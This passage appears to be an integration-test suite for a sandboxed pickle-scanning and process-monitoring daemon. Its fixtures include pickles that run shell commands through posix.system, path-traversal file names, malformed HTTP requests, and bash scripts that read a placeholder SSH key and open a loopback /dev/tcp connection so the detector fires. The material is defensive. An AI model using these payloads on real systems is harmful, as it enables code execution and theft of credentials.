//! The real monitord on a temporary socket and state directory (root: it loads the probes),
//! talked to over raw HTTP on its socket and through monitorctl.

use std::{
    io::{Read as _, Write as _},
    os::unix::net::UnixStream,
    path::Path,
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

mod support;

use serde_json::{Value, json};
use support::{Daemon, as_the_unit_runs_it, pickle, root_required, send};

#[test]
fn scans_over_the_socket_survive_a_restart_and_bad_requests_get_4xx() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let malicious = pickle(dir.path(), "evil.pkl", "cposix\nsystem\n(Vid\ntR.");
    let daemon = Daemon::start(dir.path());

    // A listener on the live findings stream, before the scan.
    let mut stream = open_stream(&daemon);

    let id = daemon.submit(&malicious);
    let record = daemon.wait(&id);
    assert_eq!(record["verdict"], "malicious", "{record}");
    assert_eq!(record["exit_code"], 1);
    assert_eq!(record["report"]["schema"], "monitor.scan/v1");
    let seen = read_stream_until(&mut stream, "exec.program");
    assert!(
        seen.contains("event: finding") && seen.contains(&id),
        "{seen}"
    );

    let (_, events) = daemon.json("GET", &format!("/v1/scans/{id}/events"), &Value::Null);
    assert!(
        events["events"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["syscall"] == "execve"),
        "the trace is stored"
    );
    let (_, findings) = daemon.json("GET", "/v1/findings?severity=high", &Value::Null);
    assert_eq!(findings["findings"][0]["scan_id"], id.as_str());

    // The artifact's bytes uploaded, under a name that tries to leave the upload directory.
    let (status, reply) = daemon.http(
        "POST",
        "/v1/scans/upload?name=../../etc/evil.pkl",
        b"cposix\nsystem\n(Vtrue\ntR.",
    );
    assert_eq!(status, 202, "{}", String::from_utf8_lossy(&reply));
    let uploaded: Value = serde_json::from_slice(&reply).unwrap();
    let record = daemon.wait(uploaded["id"].as_str().unwrap());
    assert_eq!(record["verdict"], "malicious", "{record}");
    assert!(
        record["request"]["path"]
            .as_str()
            .unwrap()
            .ends_with("/evil.pkl")
    );
    let uploads = dir.path().join("state/uploads");
    assert_eq!(
        std::fs::read_dir(&uploads).unwrap().count(),
        0,
        "the copy is removed"
    );

    let (status, text) = daemon.http("GET", &format!("/v1/scans/{id}/report?format=text"), b"");
    assert_eq!(status, 200);
    assert!(String::from_utf8_lossy(&text).contains("MALICIOUS"));

    for (method, path, body, want, code) in [
        (
            "POST",
            "/v1/scans",
            &b"{not json"[..],
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            br#"{"path": "relative.pkl"}"#,
            400,
            "invalid_path",
        ),
        (
            "POST",
            "/v1/scans",
            br#"{"path": "/tmp/../etc/shadow"}"#,
            400,
            "invalid_path",
        ),
        (
            "POST",
            "/v1/scans",
            br#"{"path": "/no/such/model.pkl"}"#,
            400,
            "invalid_path",
        ),
        ("GET", "/v1/scans/no-such-id", b"", 404, "not_found"),
        ("GET", "/v1/scans?limit=many", b"", 400, "malformed_query"),
        ("GET", "/v1/scans?verdict=evil", b"", 400, "malformed_query"),
        ("GET", "/v2/anything", b"", 404, "not_found"),
    ] {
        let (status, reply) = daemon.http(method, path, body);
        let reply: Value = serde_json::from_slice(&reply).unwrap();
        assert_eq!(status, want, "{method} {path}: {reply}");
        assert_eq!(reply["error"]["code"], code, "{method} {path}: {reply}");
    }
    let big = vec![b' '; 1 << 20];
    assert_eq!(daemon.http("POST", "/v1/scans", &big).0, 413);

    let (_, metrics) = daemon.http("GET", "/metrics", b"");
    let metrics = String::from_utf8(metrics).unwrap();
    assert!(
        metrics.contains("monitor_scans_total{verdict=\"malicious\",format=\"pickle\"} 2"),
        "{metrics}"
    );
    assert!(metrics.contains(
        "monitor_findings_total{severity=\"high\",rule=\"exec.program\",source=\"scan\"}"
    ));
    assert!(metrics.contains("monitor_build_info{"));
    assert!(
        metrics.contains("monitor_events_total{syscall=\"execve\"}"),
        "{metrics}"
    );
    assert!(
        metrics.trim_end().ends_with("# EOF"),
        "OpenMetrics text ends with # EOF"
    );

    daemon.stop();
    let daemon = Daemon::start(dir.path());
    let record = daemon.wait(&id);
    assert_eq!(
        record["verdict"], "malicious",
        "the report survived the restart"
    );
    let (_, list) = daemon.json("GET", "/v1/scans?verdict=malicious", &Value::Null);
    assert!(
        list["scans"]
            .as_array()
            .unwrap()
            .iter()
            .any(|scan| scan["id"] == id.as_str()),
        "{list}"
    );
}

/// What the API fuzzing (`cargo xtask fuzz-api`) does not generate well: bodies too big or too
/// deep, wrong types and content types, bytes that are not HTTP, clients that stall half-way
/// through a request, and many clients at once. Each gets its 4xx (JSON where the daemon
/// answers, not hyper), and the daemon keeps serving everyone else.
#[test]
fn hostile_requests_get_their_4xx_and_stalled_clients_block_no_one() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let daemon = Daemon::start(dir.path());
    let deep = |depth: usize| format!("{{\"path\": {}{}}}", "[".repeat(depth), "]".repeat(depth));
    let huge_path = format!("{{\"path\": \"/{}\"}}", "a".repeat(70_000));
    for (method, path, content_type, body, want, code) in [
        // 10 000 arrays deep: refused by the JSON reader's depth limit, not the stack.
        (
            "POST",
            "/v1/scans",
            "application/json",
            deep(10_000),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/watches",
            "application/json",
            deep(10_000),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            huge_path,
            413,
            "body_too_large",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            r#"{"path": 7}"#.into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            "[]".into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            "".into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            r#"{"path": "/etc/hostname", "exercise": "yes"}"#.into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            r#"{"path": "/etc/hostname", "timeout_secs": -1}"#.into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "application/json",
            r#"{"path": "/etc/hostname", "fail_on": "loud"}"#.into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/watches",
            "application/json",
            r#"{"pid": "two"}"#.into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/watches",
            "application/json",
            r#"{"pid": 99999999999}"#.into(),
            400,
            "malformed_request",
        ),
        // The Content-Type is not what decides: the body is read as JSON, and these are not.
        (
            "POST",
            "/v1/scans",
            "text/plain",
            "path=/etc/hostname".into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans",
            "multipart/form-data; boundary=x",
            "--x\r\n\r\n/etc/hostname\r\n--x--".into(),
            400,
            "malformed_request",
        ),
        (
            "POST",
            "/v1/scans/upload",
            "application/octet-stream",
            "".into(),
            400,
            "empty_body",
        ),
        (
            "POST",
            "/v1/scans/upload?exercise=maybe",
            "application/octet-stream",
            "x".into(),
            400,
            "malformed_query",
        ),
        (
            "GET",
            "/v1/scans?limit=-1",
            "application/json",
            "".into(),
            400,
            "malformed_query",
        ),
        (
            "GET",
            "/v1/scans?offset=99999999999",
            "application/json",
            "".into(),
            400,
            "malformed_query",
        ),
        (
            "GET",
            "/v1/findings?source=kernel",
            "application/json",
            "".into(),
            400,
            "malformed_query",
        ),
        (
            "GET",
            "/v1/scans/x/report?format=pdf",
            "application/json",
            "".into(),
            404,
            "not_found",
        ),
        // An id that is not UTF-8, and methods an endpoint does not take.
        (
            "GET",
            "/v1/scans/%FF%FE",
            "application/json",
            "".into(),
            400,
            "malformed_path",
        ),
        (
            "DELETE",
            "/v1/watches/%C0",
            "application/json",
            "".into(),
            400,
            "malformed_path",
        ),
        (
            "PUT",
            "/v1/scans",
            "application/json",
            "{}".into(),
            405,
            "method_not_allowed",
        ),
        (
            "DELETE",
            "/v1/rules",
            "application/json",
            "".into(),
            405,
            "method_not_allowed",
        ),
    ] {
        let (status, reply) = daemon.http_as(method, path, content_type, body.as_bytes());
        let shown = String::from_utf8_lossy(&reply[..reply.len().min(300)]).into_owned();
        let reply: Value = serde_json::from_slice(&reply)
            .unwrap_or_else(|e| panic!("{method} {path}: not JSON ({e}): {shown}"));
        assert_eq!(
            (status, reply["error"]["code"].as_str()),
            (want, Some(code)),
            "{method} {path} ({content_type}): {shown}"
        );
    }
    // A body sent for a JSON request with another Content-Type is still read (README's curl
    // example sends none of its own).
    let (status, reply) = daemon.http_as(
        "POST",
        "/v1/scans",
        "text/plain",
        br#"{"path": "/no/such/file"}"#,
    );
    assert_eq!(status, 400, "{}", String::from_utf8_lossy(&reply));
    assert!(String::from_utf8_lossy(&reply).contains("invalid_path"));

    // Bytes that are not HTTP, and a head too big: hyper's own 4xx (or a closed connection),
    // never a dead daemon.
    for request in [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not TLS either\r\n\r\n".to_vec(),
        b"GET / HTTP/9.9\r\n\r\n".to_vec(),
        format!(
            "GET /healthz HTTP/1.1\r\nHost: m\r\nX-Big: {}\r\n\r\n",
            "b".repeat(1 << 20)
        )
        .into_bytes(),
        b"POST /v1/scans HTTP/1.1\r\nHost: m\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
    ] {
        let reply = send(&daemon.socket, &request);
        let status = String::from_utf8_lossy(&reply)
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse::<u16>().ok());
        if let Some(status) = status {
            assert!((400..500).contains(&status), "{status} for {:?}", String::from_utf8_lossy(&request[..40]));
        }
    }

    // Clients that stall: a head cut short, a head without its blank line, a body promised
    // and never sent, a kept-alive connection left idle after its reply.
    let stalled_at = Instant::now();
    let stalled: Vec<UnixStream> = (0..48)
        .map(|i| {
            let mut s = UnixStream::connect(&daemon.socket).unwrap();
            let part: &[u8] = match i % 4 {
                0 => b"GET /v1/sta",
                1 => b"GET /v1/status HTTP/1.1\r\nHost: mon\r\n",
                2 => b"POST /v1/scans HTTP/1.1\r\nHost: m\r\nContent-Length: 1000\r\n\r\n{\"pa",
                _ => b"GET /healthz HTTP/1.1\r\nHost: m\r\n\r\n",
            };
            s.write_all(part).unwrap();
            s
        })
        .collect();
    // Slow but never stalled: a head in pieces, a body a piece a second for longer than the
    // read timeout (5 s by default). Both are answered in full.
    let slow = std::thread::spawn({
        let socket = daemon.socket.clone();
        move || {
            let mut s = UnixStream::connect(&socket).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
            for piece in ["GET /healthz HT", "TP/1.1\r\nHost: m\r\n", "\r\n"] {
                s.write_all(piece.as_bytes()).unwrap();
                std::thread::sleep(Duration::from_millis(700));
            }
            let mut head = [0u8; 12];
            s.read_exact(&mut head).unwrap();
            assert_eq!(&head, b"HTTP/1.1 200", "the slow head was answered");
            let body = br#"{"path": "/no/such/file", "exercise": false}"#;
            let mut s = UnixStream::connect(&socket).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
            let head = format!(
                "POST /v1/scans HTTP/1.1\r\nHost: m\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n",
                body.len()
            );
            s.write_all(head.as_bytes()).unwrap();
            let started = Instant::now();
            for piece in body.chunks(body.len().div_ceil(8)) {
                std::thread::sleep(Duration::from_secs(1));
                s.write_all(piece).unwrap();
            }
            let mut reply = String::new();
            s.read_to_string(&mut reply).unwrap();
            assert!(
                started.elapsed() > Duration::from_secs(6),
                "slower than the timeout"
            );
            // Read whole: the daemon judged the path, so it had the body.
            assert!(reply.contains("invalid_path"), "{reply}");
        }
    });
    // Meanwhile many clients at once, each answered (the read timeout in `exchange` bounds a
    // stall).
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..64)
            .map(|i| {
                let daemon = &daemon;
                scope.spawn(move || {
                    for _ in 0..5 {
                        let path = if i % 2 == 0 {
                            "/healthz"
                        } else {
                            "/v1/scans?limit=1"
                        };
                        let (status, _) = daemon.http("GET", path, b"");
                        assert_eq!(status, 200, "{path}");
                    }
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
    });
    // Each stalled client is disconnected by the daemon (EOF; the body that never came gets a
    // 408 first), within the read timeout and a generous margin.
    for (i, mut s) in stalled.into_iter().enumerate() {
        s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        let mut reply = Vec::new();
        s.read_to_end(&mut reply)
            .unwrap_or_else(|e| panic!("stalled client {i} still connected: {e}"));
        let reply = String::from_utf8_lossy(&reply);
        match i % 4 {
            2 => assert!(reply.contains("request_timeout"), "{reply}"),
            3 => assert!(reply.starts_with("HTTP/1.1 200"), "{reply}"),
            _ => {}
        }
    }
    let waited = stalled_at.elapsed();
    eprintln!("the stalled clients were disconnected after {waited:?} at most");
    assert!(waited < Duration::from_secs(30), "{waited:?}");
    slow.join().unwrap();
    let (status, _) = daemon.json("GET", "/v1/status", &Value::Null);
    assert_eq!(status, 200);
    daemon.stop();
}

#[test]
fn rules_reload_on_request_and_on_sighup_and_bad_rules_are_refused_with_their_line() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("extra-rules.yaml");
    let rule = |id: &str| {
        format!(
            "rules:\n  - id: {id}\n    description: test rule\n    severity: low\n    \
             match: {{ syscalls: [openat], path: [\"/nonexistent/{id}\"] }}\n"
        )
    };
    std::fs::write(&rules, rule("test.first")).unwrap();
    let daemon = Daemon::start(dir.path());
    let ids = |daemon: &Daemon| -> Vec<String> {
        let (_, list) = daemon.json("GET", "/v1/rules", &Value::Null);
        list["rules"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert!(ids(&daemon).contains(&"test.first".to_string()));

    std::fs::write(&rules, "rules:\n  - id: broken\n    severity: loud\n").unwrap();
    let (status, reply) = daemon.json("POST", "/v1/rules/reload", &Value::Null);
    assert_eq!(status, 400, "{reply}");
    assert_eq!(reply["error"]["code"], "invalid_rules");
    assert!(
        reply["error"]["message"]
            .as_str()
            .unwrap()
            .contains("extra-rules.yaml:")
    );
    assert!(
        ids(&daemon).contains(&"test.first".to_string()),
        "the old rules stay"
    );

    std::fs::write(&rules, rule("test.second")).unwrap();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(daemon.child.id() as i32),
        nix::sys::signal::Signal::SIGHUP,
    )
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !ids(&daemon).contains(&"test.second".to_string()) {
        assert!(Instant::now() < deadline, "SIGHUP did not reload the rules");
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(!ids(&daemon).contains(&"test.first".to_string()));

    // A bad file dropped into a rules directory, then SIGHUP: refused as a whole, the rules
    // in force stay, and the daemon serves on.
    let rules_dir = dir.path().join("extra-rules.d");
    std::fs::create_dir(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("10-good.yaml"), rule("test.dir")).unwrap();
    // The directory joins the configuration at the next start.
    drop(daemon);
    let daemon = Daemon::start(dir.path());
    let before = ids(&daemon);
    assert!(before.contains(&"test.dir".to_string()), "{before:?}");
    for (name, bad) in [
        ("20-bad.yaml", &b"rules:\n  - id: bad.glob\n    description: x\n    severity: low\n    match: { path: [\"[\"] }\n"[..]),
        ("20-bad.yaml", &b"rules: [\n"[..]),
        ("20-bad.yaml", &b"\xff\xfe not text"[..]),
        // A rule id the other file already defines.
        ("30-twice.yml", rule("test.dir").as_bytes()),
    ] {
        let _ = std::fs::remove_file(rules_dir.join("20-bad.yaml"));
        let _ = std::fs::remove_file(rules_dir.join("30-twice.yml"));
        std::fs::write(rules_dir.join(name), bad).unwrap();
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(daemon.child.id() as i32),
            nix::sys::signal::Signal::SIGHUP,
        )
        .unwrap();
        let (status, reply) = daemon.json("POST", "/v1/rules/reload", &Value::Null);
        assert_eq!(status, 400, "{name}: {reply}");
        let message = reply["error"]["message"].as_str().unwrap();
        assert!(message.contains(name), "{message}");
        assert_eq!(ids(&daemon), before, "{name}: the old rules stay");
    }
}

#[test]
fn a_scan_running_when_the_daemon_is_killed_is_reported_interrupted() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let slow = pickle(dir.path(), "slow.pkl", "ctime\nsleep\n(I30\ntR.");
    let mut daemon = Daemon::start(dir.path());
    let id = daemon.submit(&slow);
    daemon.poll(&format!("/v1/scans/{id}"), 60, |r| r["status"] == "running");
    let dead = daemon.child.id();
    daemon.child.kill().unwrap(); // SIGKILL: no chance to tidy up
    daemon.child.wait().unwrap();
    drop(daemon);

    let daemon = Daemon::start(dir.path());
    let record = daemon.wait(&id);
    assert_eq!(record["status"], "interrupted", "{record}");
    assert_eq!(record["verdict"], "error");
    assert_eq!(record["exit_code"], 2);
    // The dead daemon's job cgroup (and the sleeping loader in it) were cleared at start.
    let jobs = monitor_engine::cgroup::cgroup2_mount()
        .unwrap()
        .join("monitor");
    let prefix = format!("run-{dead}-");
    let left: Vec<_> = std::fs::read_dir(&jobs)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn twenty_scans_submitted_at_once_all_finish_with_the_right_verdicts() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let malicious = pickle(dir.path(), "evil.pkl", "cposix\nsystem\n(Vtrue\ntR.");
    let benign = pickle(dir.path(), "plain.pkl", "(dp0\nVa\np1\nI1\ns.");
    let daemon = Daemon::start(dir.path());
    let ids: Vec<(String, &str)> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..20)
            .map(|i| {
                let (path, want) = if i % 2 == 0 {
                    (&malicious, "malicious")
                } else {
                    (&benign, "clean")
                };
                let daemon = &daemon;
                s.spawn(move || (daemon.submit(path), want))
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for (id, want) in ids {
        let record = daemon.wait(&id);
        assert_eq!(record["verdict"], want, "{record}");
    }

    // monitorctl submits to the daemon when its socket answers.
    let monitorctl = support::monitorctl();
    let out = Command::new(&monitorctl)
        .args(["scan", "--format", "json", "--socket"])
        .arg(&daemon.socket)
        .arg(&malicious)
        .output()
        .expect("run monitorctl");
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["verdict"], "malicious");
    let (_, list) = daemon.json("GET", "/v1/scans?limit=100", &Value::Null);
    assert_eq!(
        list["scans"].as_array().unwrap().len(),
        21,
        "the CLI's scan went to the daemon"
    );

    let listed = daemon.ctl(&["reports", "list", "--verdict", "malicious", "--limit", "50"]);
    assert_eq!(
        listed.lines().filter(|l| l.contains("malicious")).count(),
        11,
        "{listed}"
    );
    let status: Value = serde_json::from_str(&daemon.ctl(&["status", "--json"])).unwrap();
    assert_eq!(status["queue_depth"], 0);
    assert!(daemon.ctl(&["rules", "list"]).contains("exec.program"));
    let exported = daemon.ctl(&["reports", "export", "--verdict", "clean"]);
    let reports: Vec<Value> = exported
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(reports.len(), 10, "{exported}");
    assert!(
        reports
            .iter()
            .all(|r| r["verdict"] == "clean" && r["schema"] == "monitor.scan/v1")
    );
}

/// Two scans run at once (the default allows two), each judged on its own trace: the status
/// shows both running together, and the benign one stays clean while the other runs a program.
#[test]
fn scans_run_side_by_side_each_with_its_own_trace() {
    root_required();
    let dir = tempfile::tempdir().unwrap();
    // time.sleep: slow, and harmless, so the two surely overlap.
    let slow_benign = pickle(dir.path(), "slow.pkl", "ctime\nsleep\n(F2.0\ntR.");
    let slow_malicious = pickle(
        dir.path(),
        "slow-evil.pkl",
        "cposix\nsystem\n(Vsleep 2; true\ntR.",
    );
    let daemon = Daemon::start(dir.path());
    let (_, status) = daemon.json("GET", "/v1/status", &Value::Null);
    assert_eq!(status["max_concurrent_scans"], 2, "{status}");
    assert!(
        status["probes"]["attached"].as_u64().unwrap() > 0,
        "{status}"
    );

    let benign = daemon.submit(&slow_benign);
    let malicious = daemon.submit(&slow_malicious);
    // Both running, each with its own subscription (a scan is running from the moment it
    // leaves the queue; it subscribes once its sandbox is built).
    daemon.poll("/v1/status", 60, |s| {
        s["running"].as_array().is_some_and(|r| r.len() == 2) && s["probes"]["subscriptions"] == 2
    });
    // Each judged on its own trace: the benign one saw no program run. (time.sleep is a
    // global the static rules do not know, a low finding of its own: not clean, never
    // malicious.)
    let benign = daemon.wait(&benign);
    assert_ne!(benign["verdict"], "malicious", "{benign}");
    assert!(
        !benign["report"]["findings"]
            .to_string()
            .contains("exec.program"),
        "{benign}"
    );
    assert_eq!(daemon.wait(&malicious)["verdict"], "malicious");
    let (_, status) = daemon.json("GET", "/v1/status", &Value::Null);
    assert_eq!(status["running"], json!([]), "{status}");
    assert_eq!(status["probes"]["subscriptions"], 0, "{status}");
    daemon.stop();
}

/// Reads the findings stream until each of `want` (`|`-separated) appears in it; returns what
/// was read.
fn read_stream_until(stream: &mut UnixStream, want: &str) -> String {
    let mut seen = Vec::new();
    let mut chunk = [0u8; 4096];
    // Keep-alive comments keep the socket busy: bound the whole wait, not only each read.
    let deadline = Instant::now() + Duration::from_secs(60);
    while !want
        .split('|')
        .all(|w| String::from_utf8_lossy(&seen).contains(w))
    {
        assert!(
            Instant::now() < deadline,
            "{want} not on the stream in 60 s: {}",
            String::from_utf8_lossy(&seen)
        );
        let n = stream
            .read(&mut chunk)
            .unwrap_or_else(|e| panic!("waiting for {want} on the stream: {e}"));
        assert!(
            n > 0,
            "the stream ended: {}",
            String::from_utf8_lossy(&seen)
        );
        seen.extend_from_slice(&chunk[..n]);
    }
    String::from_utf8_lossy(&seen).into_owned()
}

fn open_stream(daemon: &Daemon) -> UnixStream {
    open_stream_with(daemon, "")
}

/// The stream as a client reconnecting after event `last` opens it.
fn open_stream_after(daemon: &Daemon, last: &str) -> UnixStream {
    open_stream_with(daemon, &format!("Last-Event-ID: {last}\r\n"))
}

fn open_stream_with(daemon: &Daemon, headers: &str) -> UnixStream {
    let mut stream = UnixStream::connect(&daemon.socket).unwrap();
    write!(
        stream,
        "GET /v1/findings/stream HTTP/1.1\r\nHost: monitord\r\n{headers}Connection: close\r\n\r\n"
    )
    .unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    // The reply's head comes once the daemon has subscribed this stream to the feed: what
    // happens after it is on the stream.
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        assert_eq!(stream.read(&mut byte).unwrap(), 1, "the stream closed");
        head.push(byte[0]);
    }
    stream
}

/// Starts `script` with bash inside `cgroup` (it joins before exec).
fn spawn_in(cgroup: &Path, script: &str) -> Child {
    use std::os::unix::process::CommandExt as _;
    let procs = std::fs::OpenOptions::new()
        .write(true)
        .open(cgroup.join("cgroup.procs"))
        .unwrap();
    let mut cmd = Command::new("/bin/bash");
    cmd.args(["-c", script]);
    // SAFETY: join_in_child only calls write(2).
    unsafe { cmd.pre_exec(move || monitor_engine::cgroup::join_in_child(&procs)) };
    cmd.spawn().unwrap()
}

/// A watch added over the API reports live, kills by policy, survives a restart, and goes
/// when removed; bad watch requests get their 4xx.
/// Also the export: every finding of the watch and of two scans, before and after the
/// restart, is in the exported JSON lines once, across many rotations.
#[test]
fn a_live_watch_reports_kills_and_survives_a_restart() {
    use std::os::unix::process::ExitStatusExt as _;
    root_required();
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let key = home.join(".ssh/id_rsa");
    std::fs::write(&key, "not a key").unwrap();
    let marker = dir.path().join("ran");
    let cgroup =
        monitor_engine::cgroup::JobCgroup::create(&format!("test-served-{}", std::process::id()))
            .unwrap();

    // The served process: started before the watch (a watch that kills at exec would kill
    // its start too), it waits for `go`, with shell built-ins only, then connects to a closed
    // loopback port (high) and tries to run a program.
    let port = free_port("127.0.0.1");
    let connect = format!("{{ : 3<>/dev/tcp/127.0.0.1/{port}; }} 2>/dev/null");
    let (go, go_again) = (dir.path().join("go"), dir.path().join("go-again"));
    let wait_for = |go: &Path| format!("while [ ! -e {} ]; do :; done", go.display());
    let mut child = spawn_in(
        cgroup.path(),
        &format!(
            "{}; {connect}; exec /usr/bin/touch {}",
            wait_for(&go),
            marker.display()
        ),
    );
    // And one that acts only after the daemon's restart.
    let mut later = spawn_in(
        cgroup.path(),
        // It spins after the read (for a bounded while) so that the kill finds it alive.
        &format!(
            "{}; read -r x < {}; i=0; while [ $i -lt 20000000 ]; do i=$((i+1)); done",
            wait_for(&go_again),
            key.display()
        ),
    );

    // Rotated every few lines, every file kept.
    let export = dir.path().join("export/events.jsonl");
    std::fs::write(
        dir.path().join("extra-config.toml"),
        format!("[export]\npath = {export:?}\nmax_file_kib = 1\nkeep_files = 10000\n"),
    )
    .unwrap();
    let malicious = pickle(dir.path(), "evil.pkl", "cposix\nsystem\n(Vid\ntR.");
    let daemon = Daemon::start(dir.path());
    let mut scans = vec![daemon.submit(&malicious)];
    let mut stream = open_stream(&daemon);
    let (status, watch) = daemon.json(
        "POST",
        "/v1/watches",
        // Critical: the connect (high) is reported, the exec killed in the kernel.
        &json!({ "name": "model-server", "cgroup": cgroup.path(), "kill_at": "critical" }),
    );
    assert_eq!(status, 201, "{watch}");
    let id = watch["id"].as_str().unwrap().to_owned();
    assert_eq!(watch["state"], "active");
    assert_eq!(
        watch["policy"]["kill_in_kernel"],
        json!(["execve", "execveat"])
    );

    std::fs::write(&go, "").unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.signal(), Some(9), "killed at its exec: {status:?}");
    assert!(!marker.exists(), "the program never ran");
    let seen = read_stream_until(&mut stream, "\"kill\"|net.connect");
    assert!(seen.contains(&id), "{seen}");
    // Each event has an id; a stream that reconnects after the first gets the rest again,
    // and not the first.
    let ids: Vec<&str> = seen
        .lines()
        .filter_map(|l| l.strip_prefix("id:"))
        .map(str::trim)
        .collect();
    assert!(ids.len() >= 2, "{seen}");
    let mut again = open_stream_after(&daemon, ids[0]);
    let replayed = read_stream_until(&mut again, "\"kill\"|net.connect");
    assert!(
        replayed.contains(&format!("id: {}\n", ids[1])),
        "{replayed}"
    );
    assert!(
        !replayed.contains(&format!("id: {}\n", ids[0])),
        "{replayed}"
    );
    drop(again);
    let (_, findings) = daemon.json("GET", "/v1/findings?source=watch", &Value::Null);
    let findings = findings["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["watch_id"] == id.as_str() && f["finding"]["rule"] == "net.connect"),
        "{findings:?}"
    );
    let (_, shown) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
    assert_eq!(shown["recent_kills"][0]["by"], "kernel", "{shown}");
    assert_eq!(shown["recent_kills"][0]["syscall"], "execve", "{shown}");
    let (_, metrics) = daemon.http("GET", "/metrics", b"");
    let metrics = String::from_utf8_lossy(&metrics);
    assert!(
        metrics.contains("source=\"watch\"") && metrics.contains("monitor_watches_active 1"),
        "{metrics}"
    );

    // Bad requests.
    for (body, code) in [
        (json!({}), "invalid_watch"),
        (json!({ "pid": 1 }), "invalid_watch"),
        (json!({ "cgroup": "/etc" }), "invalid_watch"),
        (json!({ "pid": 2, "colour": "red" }), "malformed_request"),
    ] {
        let (status, reply) = daemon.json("POST", "/v1/watches", &body);
        assert_eq!(
            (status, reply["error"]["code"].as_str()),
            (400, Some(code)),
            "{body}: {reply}"
        );
    }
    let (status, _) = daemon.json("GET", "/v1/watches/nope", &Value::Null);
    assert_eq!(status, 404);

    // A restart resumes it.
    daemon.stop();
    let daemon = Daemon::start(dir.path());
    let (_, list) = daemon.json("GET", "/v1/watches", &Value::Null);
    let watches = list["watches"].as_array().unwrap();
    assert_eq!(watches.len(), 1, "{list}");
    assert_eq!(watches[0]["id"], id.as_str());
    assert_eq!(watches[0]["state"], "active");
    let mut stream = open_stream(&daemon);
    std::fs::write(&go_again, "").unwrap();
    // Reading a credential is critical: killed by the policy, in user space, at the finding.
    assert_eq!(later.wait().unwrap().signal(), Some(9));
    read_stream_until(&mut stream, "cred.read");

    let (status, _) = daemon.http("DELETE", &format!("/v1/watches/{id}"), b"");
    assert_eq!(status, 204);
    let (status, _) = daemon.http("DELETE", &format!("/v1/watches/{id}"), b"");
    assert_eq!(status, 404);

    scans.push(daemon.submit(&malicious));
    for scan in &scans {
        assert_eq!(daemon.wait(scan)["verdict"], "malicious");
    }
    let (_, stored) = daemon.json("GET", "/v1/findings?limit=500", &Value::Null);
    daemon.stop();
    drop(cgroup);

    let lines = exported_lines(&export);
    for line in &lines {
        assert!(
            line["time"]
                .as_str()
                .is_some_and(|t| t.len() == 24 && t.ends_with('Z'))
                && line["host"].as_str().is_some_and(|h| !h.is_empty()),
            "{line}"
        );
    }
    let of_kind =
        |kind: &str| -> Vec<&Value> { lines.iter().filter(|l| l["kind"] == kind).collect() };
    // The findings as the API keeps them and as they were exported: the same, each once.
    let key = |item: &Value| {
        let mut item = item.clone();
        for field in ["time", "host", "kind"] {
            item.as_object_mut().unwrap().remove(field);
        }
        item.to_string()
    };
    let mut kept: Vec<String> = stored["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(key)
        .collect();
    let mut sent: Vec<String> = of_kind("finding").into_iter().map(key).collect();
    kept.sort();
    sent.sort();
    assert!(
        kept.iter().any(|f| f.contains("\"watch_id\""))
            && kept.iter().any(|f| f.contains("\"scan_id\"")),
        "{kept:?}"
    );
    assert_eq!(
        sent, kept,
        "exported findings (left) and stored ones (right)"
    );
    let verdicts: Vec<&str> = of_kind("verdict")
        .iter()
        .map(|v| v["scan_id"].as_str().unwrap())
        .collect();
